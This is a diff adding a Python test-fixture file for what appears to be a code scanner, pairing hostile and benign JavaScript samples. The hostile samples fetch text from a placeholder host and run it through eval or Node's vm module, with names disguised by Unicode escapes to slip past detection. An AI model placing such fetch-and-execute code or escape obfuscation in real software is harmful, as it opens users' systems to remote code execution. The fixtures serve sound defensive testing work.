@@ -1,0 +1,28 @@
+"""Samples and twins of what is peculiar to JavaScript: how its names are spelt, its objects, streams and modules."""
+
+from inspection.rules.sample import Sample, js
+
+HOSTILE: dict[str, dict[str, Sample]] = {
+    "remote_code": {
+        "every name is spelt with escapes": js(
+            "const { r\\u{75}nInThisContext: \\u{67}o } = r\\u{65}quire('vm');\n"
+            "\\u{66}etch('https://a.invalid').then((\\u0074) => t.t\\u{65}xt()).then((\\u{74}) => g\\u{6f}(\\u0074));\n"
+        ),
+        "a name is exported with escapes": Sample(
+            {
+                "app.mjs": "import { \\u{6c}atest as a } from './n.mjs';\neval(await \\u0061());\n",
+                "n.mjs": "export async function l\\u0061test() { return (await fetch('https://a.invalid')).text() }\n",
+            },
+            "block",
+            ("app.mjs", 2),
+        ),
+    },
+}
+
+HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "remote_code": {
+        "a name that is spelt with escapes and parses": {
+            "app.js": "fetch('https://a.invalid').then((\\u0072) => r.text()).then(\\u0074 => JSON.p\\u{61}rse(t).x);\n"
+        },
+    },
+}
